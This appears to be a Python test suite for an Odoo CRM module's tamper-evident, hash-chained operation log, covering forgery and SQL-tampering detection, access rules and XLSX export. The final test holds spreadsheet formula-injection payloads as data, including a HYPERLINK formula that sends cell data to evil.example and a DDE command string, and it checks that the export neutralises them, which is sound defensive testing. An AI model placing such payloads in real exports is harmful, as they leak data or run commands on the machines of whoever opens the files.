from datetime import datetime
from unittest.mock import patch

from odoo import fields
from odoo.exceptions import AccessError, UserError

from ..engines.chain import GENESIS, Keyring, line_hash
from ..models.crm_infinity_primanota import (HASHED_COLUMNS, HASHED_SELECT, _keyring,
                                             anchor_existing_chains)
from .common import CoreEngineCase

PRIMANOTA = 'odoo.addons.crm_infinity_base.models.crm_infinity_primanota'


class TestPrimanota(CoreEngineCase):
    """SPEC B5: immutable, tamper-evident operation log."""

    def _log_some(self):
        record = self._record(self.anna)
        record.write({'state': 'open'})
        record.write({'priority': '1', 'state': 'done'})
        return record

    def test_tracked_changes_write_lines_with_old_and_new(self):
        record = self._log_some()
        lines = record.primanota_ids.sorted('id')
        self.assertEqual(lines.mapped('event_code'), ['create', 'write', 'write'])
        self.assertIn('Open → Done', lines[-1].changes_display)
        self.assertEqual(lines[-1].user_id, self.env.user)

    def test_untracked_changes_write_nothing(self):
        record = self._record(self.anna)
        before = len(record.primanota_ids)
        record.write({'name': 'altro nome'})
        record.invalidate_cache()
        self.assertEqual(len(record.primanota_ids), before)

    def test_nobody_writes_or_deletes_lines_not_even_admin(self):
        record = self._log_some()
        line = record.primanota_ids[:1]
        for env_user in (self.env, self.env(user=self.admin.id)):
            lines = env_user['crm.infinity.primanota'].browse(line.id)
            with self.assertRaises(UserError):
                lines.write({'note': 'ritoccata'})
            with self.assertRaises(UserError):
                lines.unlink()
        self.assertTrue(line.exists())

    def _verify(self, record):
        return self.env['crm.infinity.primanota'].verify_chain(record._name, record.id)

    # -- forgery ------------------------------------------------------------------------------

    def test_nobody_creates_lines_not_even_the_superuser(self):
        record = self._record(self.anna)
        before = len(record.primanota_ids)
        vals = {'res_model': record._name, 'res_id': record.id, 'note': 'inserita a mano',
                'user_id': self.dario.id, 'date': '2020-01-01 00:00:00'}
        for env in (self.env(user=self.anna.id), self.env(user=self.admin.id), self.env):
            with self.assertRaises(AccessError):
                env['crm.infinity.primanota'].create(dict(vals))
        record.invalidate_cache()
        self.assertEqual(len(record.primanota_ids), before)

    def test_author_and_date_are_always_the_real_ones(self):
        record = self._record(self.anna)
        with self.assertRaises(ValueError):
            record._primanota_log([{'res_id': record.id, 'event_code': 'x',
                                    'user_id': self.dario.id}])
        with self.assertRaises(ValueError):
            self.env['crm.infinity.primanota']._log([{
                'res_model': record._name, 'res_id': record.id, 'date': '2001-01-01 00:00:00'}])
        causale = self._causale('Telefonata', [])
        record.sudo(self.anna).apply_causale(causale.id, {'note': 'chiamato'})
        line = record.primanota_ids.filtered(lambda l: l.causale_id == causale)
        self.assertEqual(line.user_id, self.anna)
        age = datetime.utcnow() - fields.Datetime.from_string(line.date)
        self.assertLess(abs(age.total_seconds()), 60)
        self.assertEqual((line.hash_version, line.key_id), (2, _keyring().current_id))

    # -- tampering ----------------------------------------------------------------------------

    def test_chain_holds_and_sql_tampering_is_found(self):
        record = self._log_some()
        Primanota = self.env['crm.infinity.primanota']
        self.assertFalse(Primanota.verify_chain(record._name, record.id))
        lines = record.primanota_ids.sorted('id')
        self.env.cr.execute("UPDATE crm_infinity_primanota SET note = 'ritoccata' WHERE id = %s",
                            (lines[1].id,))
        self.assertEqual(Primanota.verify_chain(record._name, record.id),
                         {'line_id': lines[1].id, 'missing': 0, 'reason': 'altered'})
        broken = Primanota.verify_all()
        self.assertEqual(broken[(record._name, record.id)]['line_id'], lines[1].id)
        with self.assertRaises(UserError) as info:
            record.action_verify_primanota()
        self.assertIn('tampered', info.exception.name)

    def test_deleted_line_is_found(self):
        record = self._log_some()
        lines = record.primanota_ids.sorted('id')
        self.env.cr.execute('DELETE FROM crm_infinity_primanota WHERE id = %s', (lines[1].id,))
        self.assertEqual(self._verify(record)['line_id'], lines[2].id)

    def _rewrite_as_sha256(self, record, altered, start, version):
        """Change the note of line ``altered``, recompute the hashes from line ``start`` on with
        SHA-256 (the algorithm every reader of the source knows) and mark them ``version``;
        return the new last hash."""
        cr = self.env.cr
        cr.execute('SELECT id, prev_hash, %s FROM crm_infinity_primanota WHERE res_model = %%s '
                   'AND res_id = %%s ORDER BY id' % HASHED_SELECT, (record._name, record.id))
        rows = cr.fetchall()
        prev = rows[start][1]
        for line_id, _prev, *payload in rows[start:]:
            if line_id == altered.id:
                payload[HASHED_COLUMNS.index('note')] = 'ritoccata'
                cr.execute('UPDATE crm_infinity_primanota SET note = %s WHERE id = %s',
                           ('ritoccata', line_id))
            digest = line_hash(prev, payload)
            cr.execute('UPDATE crm_infinity_primanota SET prev_hash = %s, hash = %s, '
                       'hash_version = %s WHERE id = %s', (prev, digest, version, line_id))
            prev = digest
        return prev

    def test_rewrite_with_the_public_algorithm_is_found(self):
        record = self._log_some()
        lines = record.primanota_ids.sorted('id')
        self._rewrite_as_sha256(record, lines[1], 1, 2)
        self.assertEqual(self._verify(record), {'line_id': lines[1].id, 'missing': 0,
                                                'reason': 'altered'})
        self._rewrite_as_sha256(record, lines[1], 1, 1)  # claiming they are old lines
        self.assertEqual(self._verify(record), {'line_id': lines[1].id, 'missing': 0,
                                                'reason': 'downgraded'})
        last = self._rewrite_as_sha256(record, lines[1], 0, 1)  # the whole chain
        self.assertEqual(self._verify(record)['reason'], 'rewritten')
        self.env.cr.execute('UPDATE crm_infinity_primanota_head SET last_hash = %s '
                            'WHERE res_model = %s AND res_id = %s', (last, record._name, record.id))
        self.assertEqual(self._verify(record)['reason'], 'head_altered')
        with self.assertRaises(UserError) as info:
            record.action_verify_primanota()
        self.assertIn('signed head of the chain does not match', info.exception.name)

    def test_deleting_the_last_lines_is_found(self):
        record = self._log_some()
        lines = record.primanota_ids.sorted('id')
        self.env.cr.execute('DELETE FROM crm_infinity_primanota WHERE id IN %s',
                            (tuple(lines[1:].ids),))
        self.assertEqual(self._verify(record), {'line_id': False, 'missing': 2,
                                                'reason': 'missing_tail'})
        with self.assertRaises(UserError) as info:
            record.action_verify_primanota()
        self.assertIn('the last 2 lines have been deleted', info.exception.name)
        self.env.cr.execute('DELETE FROM crm_infinity_primanota WHERE id = %s', (lines[0].id,))
        broken = self.env['crm.infinity.primanota'].verify_all()
        self.assertEqual(broken[(record._name, record.id)]['missing'], 3)

    def test_lines_signed_with_another_key_are_reported(self):
        record = self._log_some()
        with patch(PRIMANOTA + '._keyring', Keyring.generate):
            self.assertEqual(self._verify(record)['reason'], 'unknown_key')
            with self.assertRaises(UserError) as info:
                record.action_verify_primanota()
            self.assertIn('signed with a key this server does not have', info.exception.name)
        self.assertFalse(self._verify(record))

    def test_chains_written_before_keys_are_anchored_by_the_migration(self):
        cr = self.env.cr
        prev = GENESIS
        for note in ('uno', 'due'):  # two lines as version 11.0.1.0.0 wrote them
            row = {'date': '2026-01-02 10:00:00', 'user_id': self.anna.id, 'causale_id': None,
                   'res_model': 'legacy.model', 'res_id': 5, 'channel': 'phone',
                   'event_code': 'causale', 'changes': '{}', 'note': note, 'input_date': None}
            digest = line_hash(prev, [row[c] for c in HASHED_COLUMNS])
            cr.execute('INSERT INTO crm_infinity_primanota (%s, prev_hash, hash) VALUES (%s)' % (
                ', '.join(HASHED_COLUMNS), ', '.join(['%s'] * (len(HASHED_COLUMNS) + 2))),
                [row[c] for c in HASHED_COLUMNS] + [prev, digest])
            prev = digest
        Primanota = self.env['crm.infinity.primanota']
        self.assertEqual(Primanota.verify_chain('legacy.model', 5)['reason'], 'no_head')
        anchor_existing_chains(cr)
        self.assertFalse(Primanota.verify_chain('legacy.model', 5))
        Primanota._log([{'res_model': 'legacy.model', 'res_id': 5, 'note': 'tre'}])
        self.assertFalse(Primanota.verify_chain('legacy.model', 5))
        cr.execute("DELETE FROM crm_infinity_primanota WHERE res_model = 'legacy.model' "
                   "AND note = 'tre'")
        self.assertEqual(Primanota.verify_chain('legacy.model', 5)['missing'], 1)

    # -- access -------------------------------------------------------------------------------

    def test_verification_needs_access_to_the_record(self):
        record = self._log_some()
        Primanota = self.env['crm.infinity.primanota']
        self.assertFalse(Primanota.sudo(self.anna).verify_chain(record._name, record.id))
        with self.assertRaises(AccessError):
            Primanota.sudo(self.dario).verify_chain(record._name, record.id)
        with self.assertRaises(AccessError):
            record.sudo(self.dario).action_verify_primanota()
        with self.assertRaises(AccessError):
            Primanota.sudo(self.anna).verify_chain('legacy.model', 5)
        with self.assertRaises(AccessError):
            Primanota.sudo(self.anna).verify_all()
        self.assertIsInstance(Primanota.sudo(self.admin).verify_all(), dict)

    # -- values given by callers --------------------------------------------------------------

    def test_bad_channel_or_date_refused_before_any_effect(self):
        state = self._field('crm.infinity.test.record', 'state')
        causale = self._causale('Apertura', [{'effect_type': 'set_field', 'field_id': state.id,
                                              'value': 'open'}])
        record = self._record(self.anna)
        before = len(record.primanota_ids)
        for values, message in (({'channel': 'piccione'}, 'is not a valid channel'),
                                ({'date': 'ieri'}, 'is not a valid date')):
            with self.assertRaises(UserError) as info:
                record.sudo(self.anna).apply_causale(causale.id, values)
            self.assertIn(message, info.exception.name)
            record.invalidate_cache()
            self.assertEqual(record.state, 'draft')
            self.assertEqual(len(record.primanota_ids), before)
        record.sudo(self.anna).apply_causale(causale.id, {'channel': 'phone',
                                                          'date': '2026-12-01 09:30:00'})
        record.invalidate_cache()
        line = record.primanota_ids.filtered(lambda l: l.causale_id == causale)
        self.assertEqual((line.channel, line.input_date), ('phone', '2026-12-01 09:30:00'))

    def test_verify_action_on_an_intact_record(self):
        record = self._log_some()
        action = record.action_verify_primanota()
        wizard = self.env[action['res_model']].browse(action['res_id'])
        self.assertIn('intact', wizard.message)

    def test_owner_sees_the_whole_history_after_reassignment(self):
        record = self._record(self.anna)
        record.sudo(self.anna).write({'state': 'open'})
        record.write({'user_id': self.dario.id})
        lines_dario = record.sudo(self.dario).primanota_ids
        self.assertEqual(len(lines_dario), len(record.primanota_ids))
        # anna no longer owns it: she keeps the lines she wrote herself only
        self.assertEqual(record.sudo().primanota_ids.sudo(self.anna).search(
            [('res_id', '=', record.id), ('res_model', '=', record._name)]).mapped('user_id'), self.anna)

    def test_global_list_follows_the_hierarchy(self):
        self._record(self.carla).write({'state': 'open'})
        self._record(self.dario).write({'state': 'open'})
        Primanota = self.env['crm.infinity.primanota']
        owners_seen_by_north = set(Primanota.sudo(self.north).search([]).mapped('owner_id.login'))
        self.assertIn('t_carla', owners_seen_by_north)
        self.assertNotIn('t_dario', owners_seen_by_north)

    def test_xlsx_export(self):
        import base64
        import io

        import openpyxl
        record = self._log_some()
        action = self.env['crm.infinity.primanota'].action_export_xlsx(
            [('res_model', '=', record._name), ('res_id', '=', record.id)])
        # the shared download action, not act_url (which left the screen frozen)
        self.assertEqual(action['tag'], 'crm_infinity_download')
        attachment = self.env['ir.attachment'].browse(
            int(action['params']['url'].split('/')[3].split('?')[0]))
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        rows = list(book.active.iter_rows(values_only=True))
        self.assertEqual(len(rows), 4)  # header + 3 lines
        self.assertTrue(any('Open → Done' in (r[7] or '') for r in rows[1:]))

    def test_xlsx_export_writes_formulas_as_text(self):
        """A salesperson names his record like a spreadsheet formula: the administrator's
        export must show the text, not run it (CSV/XLSX formula injection)."""
        import base64
        import io

        import openpyxl
        payloads = ('=HYPERLINK("http://evil.example/?"&A1,"Apri")', '+1+cmd|\' /C calc\'!A0',
                    '-2+3', '@SUM(1+1)')
        records = self.Record.browse()
        for payload in payloads:
            records |= self._record(self.anna, name=payload)
        action = self.env['crm.infinity.primanota'].action_export_xlsx(
            [('res_model', '=', records._name), ('res_id', 'in', records.ids)])
        attachment = self.env['ir.attachment'].browse(
            int(action['params']['url'].split('/')[3].split('?')[0]))
        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas))).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        self.assertFalse([cell.value for cell in cells if cell.data_type == 'f'])
        self.assertEqual({cell.value for cell in cells if cell.column == 5}, set(payloads))
